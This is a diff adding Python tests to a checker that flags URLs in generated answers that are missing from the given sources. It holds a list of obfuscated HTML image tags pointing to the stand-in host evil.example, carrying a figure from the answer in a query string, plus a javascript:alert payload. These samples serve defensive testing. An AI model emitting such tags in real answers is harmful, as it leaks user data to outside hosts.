@@ -220,3 +220,23 @@ def test_many_link_openers_are_judged_in_linear_time() -> None:
     for answer in ["](((" * 20000, "](" * 30000, "](<" * 20000, "](a(" * 20000]:
         assert check_generated(NIGHTLY + answer + " [1].", LINKED, {1, 2}) == "url_outside_context"
     assert time.monotonic() - started < 5  # minutes when each `](` rescanned the rest of the answer
+
+
+def test_src_in_prose_is_no_address() -> None:
+    given = {1: "To publish the handbook, point the src setting to the templates folder.", 2: GIVEN[2]}
+    for prose in ["To publish the handbook, set src= to the templates folder [1].",
+                  "To publish the handbook, the src = templates folder setting applies [1]."]:
+        assert check_generated(prose, given, {1, 2}) is None, prose
+
+
+def test_src_in_a_tag_or_attribute_list_must_be_in_the_sources() -> None:
+    for tag in ["<img src=evil.example/p?q=180>", '<img alt="x" src="evil.example/p?q=180">',
+                "<IMG SRC = 'evil.example/p?q=180'>", "<img/src=evil.example/p?q=180>", "<img\nsrc=evil.example/p>",
+                "<img src=evil.example/p?q=180", "{src=evil.example/p?q=180}", "{.big src=evil.example/p}",
+                '<video poster="x.png" src=evil.example/p>', "<img src=\\\\evil.example/p>",
+                "<img src=javascript:alert(180)>", "<img src=&#x2F;&#x2F;evil.example/p>",
+                '<img alt=">" src=evil.example/p?q=180>', "<Img SrC=evil.example/p>",
+                "<img src='#x' src=evil.example>"]:
+        answer = f"Hotels are reimbursed up to 180 euros per night {tag} [1]."
+        assert check_generated(answer, LINKED, {1, 2}) == "url_outside_context", tag
+    assert check_generated(NIGHTLY + '<img src="reports/2024.pdf"> [1].', LINKED, {1, 2}) is None
